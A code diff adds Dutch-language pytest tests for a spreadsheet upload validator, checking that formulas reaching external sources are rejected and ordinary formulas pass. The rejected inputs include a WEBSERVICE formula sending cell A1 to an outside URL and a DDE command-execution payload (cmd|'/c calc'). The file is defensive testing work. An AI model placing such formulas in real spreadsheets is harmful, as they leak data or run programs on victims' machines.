@@ -258,6 +258,25 @@ _VIJANDIG: dict[str, tuple[Any, str]] = {
 }
 
 
+@pytest.mark.parametrize(
+    "formule",
+    [
+        '_xlfn.WEBSERVICE("https://x.nl/" & A1)',
+        'image("https://x.nl/a.png")',
+        'RTD("x",,"y")',
+        "cmd|'/c calc'!A0",
+        "[1]Blad1!$A$1",
+    ],
+)
+def test_een_formule_die_iets_van_elders_haalt_wordt_geweigerd(formule):
+    assert "van een ander adres" in geweigerd("lijst.xlsx", documenten.xlsx(formule=formule))
+
+
+@pytest.mark.parametrize("formule", ["SUM(A1:A3)", "Tabel1[[#This Row],[Huur]]*2", 'IF(A1="a|b","ja!","nee")'])
+def test_een_gewone_formule_mag(formule):
+    assert goed("lijst.xlsx", documenten.xlsx(formule=formule)).inhoud
+
+
 @pytest.mark.parametrize("naam", sorted(_VIJANDIG))
 def test_een_vijandig_document_wordt_geweigerd(naam):
     maak, deel = _VIJANDIG[naam]
